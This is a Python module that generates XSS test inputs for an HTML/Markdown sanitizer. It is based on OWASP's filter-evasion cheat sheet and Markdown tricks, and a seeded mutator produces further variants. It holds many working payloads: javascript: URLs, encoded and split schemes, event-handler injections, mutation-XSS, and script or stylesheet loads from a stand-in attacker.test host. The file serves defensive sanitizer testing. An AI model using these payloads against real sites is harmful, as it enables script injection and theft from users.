"""Texts that try to have a reader's browser run something: the techniques of OWASP's cheat sheet of filter
evasion (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), those of
Markdown, and as many variants as are asked for, the same every time.

What they would run is `alert(1)`, which a page that loads them counts.
"""

import html
import random
from collections.abc import Iterator
from urllib.parse import quote

RUN = "alert(1)"
ELSEWHERE = "//attacker.test/x"
PICTURE = "/fichiers/3f2504e0-4f89-11d3-9a0c-0305e82c3301/"


def _decimal(text: str, pad: int = 0, end: str = ";") -> str:
    return "".join(f"&#{ord(one):0{pad}d}{end}" for one in text)


def _hexadecimal(text: str, end: str = ";") -> str:
    return "".join(f"&#x{ord(one):X}{end}" for one in text)


# Addresses that run, or that reach for another site.
SCHEMES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript://%0a{RUN}",
    f"javascript://attacker.test/%0A{RUN}",
    f"javascript:/*--></title></style></textarea></script><svg/onload={RUN}>",
    f"jav\tascript:{RUN}",
    f"jav\nascript:{RUN}",
    f"jav&#x09;ascript:{RUN}",
    f"jav&#x0A;ascript:{RUN}",
    f"jav&#x0D;ascript:{RUN}",
    f"jav&Tab;ascript&colon;{RUN}",
    f"javascript&colon;{RUN}",
    f"java\0script:{RUN}",
    f" &#14;  javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"\u200bjavascript:{RUN}",
    _decimal(f"javascript:{RUN}"),
    _decimal(f"javascript:{RUN}", 7, ""),
    _hexadecimal(f"javascript:{RUN}"),
    _hexadecimal(f"javascript:{RUN}", ""),
    f"javascript%3A{RUN}",
    f"%6Aavascript:{RUN}",
    f"\\javascript:{RUN}",
    f"javascript\\:{RUN}",
    f"javascript&#58;{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "blob:https://attacker.test/1",
    "file:///etc/passwd",
    "view-source:https://attacker.test",
    "intent://attacker.test#Intent;scheme=https;end",
    f"feed:javascript:{RUN}",
    f"https:javascript:{RUN}",
    f"https://javascript:{RUN}",
    f'https://a.test/"onmouseover="{RUN}',
    f'/"onmouseover="{RUN}',
    f"/'onmouseover='{RUN}",
    f'{PICTURE}"onerror="{RUN}',
    f"{PICTURE}?x=1 onerror={RUN}",
    "//attacker.test",
    "/\\attacker.test",
    "\\\\attacker.test",
    "/\t/attacker.test",
    "/&#x2F;attacker.test",
    "https:attacker.test",
    "https://a.test@attacker.test/",
    f"tel:1;javascript:{RUN}",
    f"mailto:a@b.test\njavascript:{RUN}",
]

# HTML as an author may write it, hoping that it is let through.
MARKUP = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=https:{ELSEWHERE}.js></SCRIPT>",
    f"<script/x src={ELSEWHERE}></script>",
    f"<script src={ELSEWHERE}.j>",
    f"<<script>{RUN};//<</script>",
    f"<script\n>{RUN}</script\n>",
    f'<script a=">" src="{ELSEWHERE}"></script>',
    f'<script =">" src="{ELSEWHERE}"></script>',
    f'<script "a=\'>\'" src="{ELSEWHERE}"></script>',
    f"<script a=`>` src={ELSEWHERE}></script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><svg onload={RUN}>",
    f'<a onmouseover="{RUN}">x</a>',
    f"<a onclick={RUN}>x</a>",
    f'<a href="javascript:{RUN}">x</a>',
    f"<a href=javascript&colon;{RUN}>x</a>",
    f'<a href="jav&#x09;ascript:{RUN}">x</a>',
    f"<a href={ELSEWHERE} ping={ELSEWHERE}>x</a>",
    f'<img """><script>{RUN}</script>"\\>',
    f"<img src=javascript:{RUN}>",
    f"<img src=# onmouseover={RUN}>",
    f"<img src= onmouseover={RUN}>",
    f"<img onmouseover={RUN}>",
    f"<img src=/ onerror={RUN}></img>",
    f"<img src=x onerror={_decimal(RUN)}>",
    f"<img src=x onerror={_decimal(RUN, 7, '')}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x:x onerror\x0c={RUN}>",
    f"<img src=`javascript:{RUN}`>",
    f"<img src={ELSEWHERE}>",
    f"<img srcset='{ELSEWHERE} 1x'>",
    f"<img dynsrc=javascript:{RUN} lowsrc=javascript:{RUN}>",
    f'<img style="x:expr/**/ession({RUN})">',
    f"<img src={PICTURE} onload={RUN} onerror={RUN}>",
    f"<input type=image src=javascript:{RUN} onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<button onclick={RUN} formaction=javascript:{RUN}>x</button>",
    f"<form action=javascript:{RUN}><input type=submit></form>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<body background=javascript:{RUN}>",
    f"<body onload!#$%&()*~+-_.,:;?@[/|\\]^`={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN} /></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    f"<svg><use href=data:image/svg+xml,{quote(f'<svg id=x onload={RUN}>')}#x></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f"<math href=javascript:{RUN}>x</math>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"<style>li{{list-style-image:url(javascript:{RUN})}}</style>",
    f"<style>@import'{ELSEWHERE}.css';</style>",
    f"<style>*{{background:url({ELSEWHERE})}}</style>",
    f"<style>@im\\port'\\ja\\vasc\\ript:{RUN}';</style>",
    f"<style><img src='</style><img src=x onerror={RUN}>'></style>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f"<link rel=import href={ELSEWHERE}>",
    f"<link rel=prefetch href={ELSEWHERE}>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<meta http-equiv=Set-Cookie content='x=<script>{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={ELSEWHERE} <",
    f"<frameset><frame src=javascript:{RUN}></frameset>",
    f"<object data=javascript:{RUN}></object>",
    f"<object type=text/x-scriptlet data={ELSEWHERE}></object>",
    f"<embed src=javascript:{RUN}>",
    "<embed src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+>",
    f"<table background=javascript:{RUN}><td background={ELSEWHERE}>",
    f'<div style="background-image:url({ELSEWHERE})">',
    f'<div style="width:expression({RUN})">',
    '<div style="background:\\75\\72\\6c(//attacker.test)">',
    f"<div style='position:fixed;inset:0' onclick={RUN}>x</div>",
    f"<video><source onerror={RUN}></video>",
    f"<video src={ELSEWHERE} poster={ELSEWHERE} onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<bgsound src=javascript:{RUN}>",
    f"<layer src={ELSEWHERE}></layer>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<x onclick={RUN} contenteditable autofocus onfocus={RUN} tabindex=1>x</x>",
    f'<xss style="behavior:url({ELSEWHERE}.htc)">',
    f'<xml id=x><i><b><img src="javas<!-- -->cript:{RUN}"></b></i></xml>',
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<!DOCTYPE html [<!ENTITY x '<script>{RUN}</script>'>]>&x;",
    f"<? echo('<SCR)'; echo('IPT>{RUN}</SCRIPT>'); ?>",
    f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\<img src=x onerror={RUN}\\>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<p id=contenu class=notice style=color:red onclick={RUN}>x</p>",
    f'<h2 id=phrases>{{"x":"{RUN}"}}</h2>',
    f"<img name=getElementById><form name=body><input name=cookie>{RUN}</form>",
]

# What Markdown alone makes possible.
MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x]( javascript:{RUN} )",
    f"[x](javascript:{RUN} 'y')",
    f"[x](/ '\"onmouseover={RUN} x=\"')",
    f'[x](/ "\'><img src=x onerror={RUN}>")',
    f"[x][r]\n\n[r]: javascript:{RUN}",
    f"[r]\n\n[r]: <javascript:{RUN}> 'x'",
    f"![x](javascript:{RUN})",
    f'!["onerror="{RUN}]({PICTURE})',
    f'![x" onload="{RUN}]({PICTURE})',
    f"![x]({PICTURE} '\" onload=\"{RUN}')",
    f"![<img src=x onerror={RUN}>]({PICTURE})",
    f"![x](https:{ELSEWHERE}.png)",
    f"![x](data:image/svg+xml,{quote(f'<svg onload={RUN}>')})",
    f"![[x](javascript:{RUN})]({PICTURE})",
    f"[![x]({PICTURE})](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"<javascript:{RUN}//@a.test>",
    f'<https://a.test/"onmouseover="{RUN}>',
    f'https://a.test/"onmouseover="{RUN}',
    f"https://a.test/'><script>{RUN}</script>",
    f"https://a.test/<script>{RUN}</script>",
    f'```"><script>{RUN}</script>\nx\n```',
    f'```js" onmouseover="{RUN}\nx\n```',
    f"    <script>{RUN}</script>",
    f"`<script>{RUN}</script>`",
    f"# <img src=x onerror={RUN}>",
    f'# x" onmouseover="{RUN}',
    f"| <script>{RUN}</script> | b |\n|---|:-:|\n| [x](javascript:{RUN}) | <img src=x onerror={RUN}> |",
    f"> <script>\n{RUN}\n</script>",
    f"1. <svg\n   onload={RUN}>",
    f"<div\n\nonclick={RUN}>\n\nx</div>",
    f"*<img* src=x *onerror={RUN}>*",
    f"<im**g src=x onerror={RUN}>**",
    f"[a](/)<b onmouseover={RUN}>[c](/)",
    f"[x]({'(' * 40}javascript:{RUN}{')' * 40})",
    f"[\\](javascript:{RUN})",
    f"[x](\\\njavascript:{RUN})",
    f"&[x](javascript:{RUN})colon;",
]

_WRITTEN = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}\n",
    "[x](/ '{}')",
    "![{}](" + PICTURE + ")",
    '<a href="{}">x</a>',
    "<img src='{}'>",
    "<iframe src={}></iframe>",
    "https://a.test/{}",
]
_AROUND = [
    *("{}", "# {}", "> {}", "- {}", "1. {}", "**{}**", "*{}*", "`{}`", "```\n{}\n```", "    {}", "<p>{}</p>"),
    *("| a | b |\n|---|---|\n| {} | x |", "[{}](/)", "\\{}", "> - 1. # {}", "x{}", "{}\n===", "<!-- {} -->"),
]
_INSERTED = [
    *("\0", "\t", "\n", "\r", "\x0b", "\x0c", "\x1f", " ", "\u00a0", "\u200b", "\u2028", "\ufeff", "/", "\\"),
    *(
        "<!-- -->",
        "&#0;",
        "&Tab;",
        "&NewLine;",
        '"',
        "'",
        "`",
        ">",
        "<",
        "*",
        "_",
        "[",
        "]",
        "(",
        ")",
        "%00",
        "&",
    ),
]


def known() -> list[str]:
    """Each technique as it is told."""
    written = [
        form.format(scheme) for scheme in SCHEMES for form in ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>")
    ]
    return [*MARKUP, *MARKDOWN, *written]


def mutated(count: int, seed: int = 21) -> Iterator[str]:
    """So many variants, the same every time for one seed."""
    chance = random.Random(seed)
    sources = known()
    for _number in range(count):
        text = (
            chance.choice(_WRITTEN).format(chance.choice(SCHEMES))
            if chance.random() < 0.3
            else chance.choice(sources)
        )
        for _turn in range(chance.randint(1, 4)):
            text = chance.choice(_TURNS)(text, chance)
        yield chance.choice(_AROUND).format(text)


def _case(text: str, chance: random.Random) -> str:
    return "".join(one.upper() if chance.random() < 0.4 else one for one in text)


def _insert(text: str, chance: random.Random) -> str:
    place = chance.randint(0, len(text))
    return text[:place] + chance.choice(_INSERTED) + text[place:]


def _encode(text: str, chance: random.Random) -> str:
    start = chance.randint(0, len(text))
    end = start + chance.randint(1, 14)
    how = chance.choice([_decimal, _hexadecimal, quote, html.escape, lambda part: _decimal(part, 7, "")])
    return text[:start] + how(text[start:end]) + text[end:]


def _cut(text: str, chance: random.Random) -> str:
    place = chance.randint(0, len(text))
    return text[:place] + text[place + chance.randint(1, 3) :]


def _splice(text: str, chance: random.Random) -> str:
    other = chance.choice(known())
    place = chance.randint(0, len(text))
    return text[:place] + other[chance.randint(0, len(other)) :] + text[place:]


def _double(text: str, chance: random.Random) -> str:
    start = chance.randint(0, len(text))
    part = text[start : start + chance.randint(1, 12)]
    return text[:start] + part * chance.randint(2, 4) + text[start + len(part) :]


_TURNS = [_case, _insert, _insert, _encode, _cut, _splice, _double]
